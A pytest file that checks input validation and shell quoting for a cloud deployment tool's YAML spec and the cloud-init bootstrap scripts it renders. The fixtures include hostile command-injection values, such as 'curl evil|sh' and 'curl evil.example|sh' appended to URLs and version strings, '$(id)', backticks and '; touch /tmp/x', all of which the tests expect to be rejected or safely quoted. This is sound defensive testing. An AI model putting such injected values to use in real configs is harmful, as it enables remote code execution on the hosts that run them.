"""`install:` in the spec: every value validated for its kind (a hostile one is an error with
file:line), and the rendered cloud-init of a cloud region and of its stream managers carries the
validated, quoted install lines and never a secret."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
import yaml

from ccds_cli.errors import SpecError
from ccds_cli.nodepkg import source
from ccds_cli.spec import load_spec

SPEC = """\
version: 1
name: pkgtest
providers:
  aws-main: {cloud: aws}
control:
  placement: [aws-main/us-east-1]
  stream_managers: 1
regions:
  na-east:
    placement: aws-main/us-east-1
    network: {cidr: 10.10.0.0/16}
    pools:
      origin: {instance_type: c5.large, min: 1, max: 1, capacity: 20}
      edge: {instance_type: c5.large, min: 1, max: 2, capacity: 100}
security:
  admin_cidrs: [203.0.113.0/24]
  auth: {kind: round-trip, url: "https://auth.example.com/check?who=$(id)&x=1", timeout_s: 4.5}
install:
"""
SHA = "ab" * 32
WHEEL = "https://artifacts.example.com/ccds/ccds-0.1.0-py3-none-any.whl?sig=a1&exp=2"


def _write(tmp_path: Path, install_lines: str) -> Path:
    path = tmp_path / "ccds.yaml"
    path.write_text(SPEC + install_lines)
    return path


def _errors(tmp_path: Path, install_lines: str) -> list:
    with pytest.raises(SpecError) as err:
        load_spec(_write(tmp_path, install_lines))
    return err.value.diagnostics


@pytest.mark.parametrize("lines, field, words", [
    ('  requirement: "ccds==1; touch /tmp/x"\n', "install.requirement", "may not contain '/' ';'"),
    ('  requirement: "ccds==1 ; python_version > \'3\'"\n', "install.requirement", "may not contain"),
    ('  requirement: "ccds @ https://x.example/ccds.whl"\n', "install.requirement", "for a URL use wheel_url"),
    ('  requirement: "ccds=="\n', "install.requirement", "not a PEP 508 requirement"),
    ('  requirement: "other==1.0"\n', "install.requirement", "must name ccds"),
    (f'  wheel_url: "https://x/$(id)"\n  sha256: "{SHA}"\n', "install.wheel_url", "may not contain '$' '(' ')'"),
    (f'  wheel_url: "https://x/`id`.whl"\n  sha256: "{SHA}"\n', "install.wheel_url", "'`'"),
    (f'  wheel_url: "https://x/ccds.tar.gz"\n  sha256: "{SHA}"\n', "install.wheel_url", "wheel file name"),
    (f'  wheel_url: "https://x/ccds-1-cp311-cp311-linux_x86_64.whl"\n  sha256: "{SHA}"\n', "install.wheel_url",
     "pure Python"),
    (f'  wheel_url: "file:///tmp/ccds-1-py3-none-any.whl"\n  sha256: "{SHA}"\n', "install.wheel_url", "http://"),
    ('  index_url: "https://user:token@pypi.corp.example/simple"\n', "install.index_url", "credentials"),
    ("  index_url: \"https://pypi.corp.example/simple'; curl evil|sh; '\"\n", "install.index_url", "may not contain"),
    ('  index_url: "https://pypi.corp.example/simple#frag"\n', "install.index_url", "#fragment"),
    ("  wheel_url: https://x/ccds-1.0-py3-none-any.whl\n  sha256: 1234\n", "install.sha256", "in quotes"),
    ("  wheel_url: https://x/ccds-1.0-py3-none-any.whl\n  sha256: xyz\n", "install.sha256", "64 hexadecimal"),
])
def test_hostile_or_wrong_values_are_errors_with_file_and_line(tmp_path, lines, field, words):
    diags = _errors(tmp_path, lines)
    assert len(diags) == 1, diags
    d = diags[0]
    line = SPEC.count("\n") + 1 + next(i for i, text in enumerate(lines.splitlines())
                                       if text.strip().startswith(field.rsplit(".", 1)[1]))
    assert (d.file, d.line, d.field) == (str(tmp_path / "ccds.yaml"), line, field), d
    assert words in d.message, d.message
    assert str(d).startswith(f"{tmp_path / 'ccds.yaml'}:{line}:")


@pytest.mark.parametrize("lines, field, words", [
    (f"  requirement: ccds==1.0\n  wheel_url: https://x/ccds-1.0-py3-none-any.whl\n  sha256: '{SHA}'\n",
     "install.wheel_url", "not both"),
    ("  wheel_url: https://x/ccds-1.0-py3-none-any.whl\n", "install.wheel_url", "needs sha256"),
    (f"  sha256: '{SHA}'\n", "install.sha256", "give wheel_url too"),
])
def test_cross_field_rules(tmp_path, lines, field, words):
    (d,) = _errors(tmp_path, lines)
    assert d.field == field and words in d.message and d.line > SPEC.count("\n")


def _scripts(ws_dir: Path) -> dict[str, str]:
    """{pool: the bootstrap script cloud-init runs}, as Terraform will hand it over (escapes undone)."""
    root = json.loads((ws_dir / "main.tf.json").read_text())
    out = {}
    for module in root["module"].values():
        for pool, p in module["pools"].items():
            text = p["user_data"].replace("$${", "${").replace("%%{", "%{")
            doc = yaml.safe_load(text.split("\n", 1)[1])
            out[pool] = next(f["content"] for f in doc["write_files"] if f["path"] == "/usr/local/sbin/ccds-bootstrap")
    return out


def _render(tmp_path: Path, install_lines: str):
    from ccds_cli.deployment import Deployment

    dep = Deployment.open(_write(tmp_path, install_lines), tmp_path / "state")
    secrets = dep.secrets()
    rendered = {r.name: r.path for r in dep.build()}
    return dep, secrets, rendered


def test_rendered_cloud_init_has_the_quoted_install_lines_and_no_secret(tmp_path):
    index = "https://pypi.corp.example/simple?team=live&x=1"
    _dep, secrets, rendered = _render(tmp_path, f"  wheel_url: '{WHEEL}'\n  sha256: '{SHA}'\n  index_url: '{index}'\n")
    managers = _scripts(rendered["control.aws-main.us-east-1"])["manager"]
    nodes = _scripts(rendered["aws-main.us-east-1"])

    src = source.ManagerSource("install.wheel_url", wheel_url=WHEEL, sha256=SHA, index_url=index)
    assert source.manager_install_script(src) in managers
    words = [shlex.split(line) for line in managers.replace("\\\n", " ").splitlines()]
    curl = next(w for w in words if w[:1] == ["curl"])
    assert curl[-1] == WHEEL and curl[-2] == "/var/lib/ccds/dist/ccds-0.1.0-py3-none-any.whl"  # one word each
    pip = next(w for w in words if w[:1] == ["/opt/ccds/bin/pip"])
    assert pip[pip.index("--index-url") + 1] == index
    assert pip[-1] == "/var/lib/ccds/dist/ccds-0.1.0-py3-none-any.whl[postgres]"
    assert f"echo '{SHA}  /var/lib/ccds/dist/ccds-0.1.0-py3-none-any.whl' | sha256sum -c --strict -" in managers
    sm = next(w for w in words if w[:2] == ["exec", "/opt/ccds/bin/ccds"])  # the auth URL is one quoted word
    assert sm[sm.index("--auth-url") + 1] == "https://auth.example.com/check?who=$(id)&x=1"
    assert sm[sm.index("--auth-timeout") + 1] == "4.5"  # security.auth.timeout_s reaches the manager

    for pool in ("origin", "edge"):
        assert source.node_install_script(index) in nodes[pool]
        assert f"--index-url {shlex.quote(index)}" in nodes[pool]
        assert "$CCDS_MANAGER_URL/api/v1/dist/SHA256SUMS" in nodes[pool]
        assert "ccds==" not in nodes[pool]
        assert nodes[pool].index(". /etc/ccds/agent.env") < nodes[pool].index("CCDS_MANAGER_URL:-")

    everything = "".join(p.read_text() for d in rendered.values() for p in d.rglob("*.tf.json"))
    assert secrets and all(len(v) >= 16 and v not in everything for v in secrets.values())
    assert "@@CCDS_SECRETS_B64@@" in everything


def test_default_and_requirement_for_the_managers(tmp_path):
    _dep, _s, rendered = _render(tmp_path, "  {}\n")
    default = _scripts(rendered["control.aws-main.us-east-1"])["manager"]
    assert "/opt/ccds/bin/pip install -q --disable-pip-version-check 'ccds[postgres]==0.1.0'\n" in default
    assert "--index-url" not in default

    (tmp_path / "state").rename(tmp_path / "state-1")
    _dep, _s, rendered = _render(tmp_path, "  requirement: 'ccds[aws]>=0.1,<0.2'\n  index_url: https://p.example/simple\n")
    managers = _scripts(rendered["control.aws-main.us-east-1"])["manager"]
    assert ("/opt/ccds/bin/pip install -q --disable-pip-version-check --index-url https://p.example/simple "
            "'ccds[aws,postgres]<0.2,>=0.1'\n") in managers


@pytest.mark.parametrize("engine, field", [
    ('{kind: mediamtx, version: "1.15.0; curl evil.example|sh"}', "engine.version"),
    ('{kind: red5pro, license_env: R5_KEY, archive_url: "https://x.example/r5.zip$(id)"}', "engine.archive_url"),
])
def test_engine_values_reaching_the_shell_are_validated(tmp_path, engine, field):
    path = tmp_path / "ccds.yaml"
    path.write_text(SPEC.replace("providers:", f"engine: {engine}\nproviders:") + "  {}\n")
    with pytest.raises(SpecError) as err:
        load_spec(path)
    (d,) = err.value.diagnostics
    assert d.field == field and d.line == 3, d


def test_node_agent_advertises_its_public_address(tmp_path):
    """The agent's --endpoint values are expanded by the node's shell (they were single-quoted, so
    nodes registered literal `$public` URLs)."""
    import subprocess

    _dep, _s, rendered = _render(tmp_path, "  {}\n")
    script = _scripts(rendered["aws-main.us-east-1"])["edge"]
    agent = script.split("<<'AGENT'\n", 1)[1].split("\nAGENT\n", 1)[0]
    line = next(x for x in agent.splitlines() if "exec /opt/ccds/bin/ccds node agent" in x)
    line = line.replace("exec /opt/ccds/bin/ccds node agent", "printf '%s\\n'")
    proc = subprocess.run(["sh", "-euc", f"public=203.0.113.9; private=10.0.0.5; node_token=t; "
                                         f"node_name=wp-na-east-edge-0; "
                                         f"CCDS_MANAGER_URL=http://sm.example:8080; {line}"],
                          capture_output=True, text=True, timeout=30)
    args = proc.stdout.splitlines()
    assert proc.returncode == 0, proc.stderr
    assert "webrtc=http://203.0.113.9:8889" in args and "rtmp=rtmp://203.0.113.9:1935" in args
    assert args[args.index("--public-host") + 1] == "203.0.113.9"
    assert args[args.index("--manager") + 1] == "http://sm.example:8080"
    assert args[args.index("--name") + 1] == "wp-na-east-edge-0"  # the name its credential is bound to
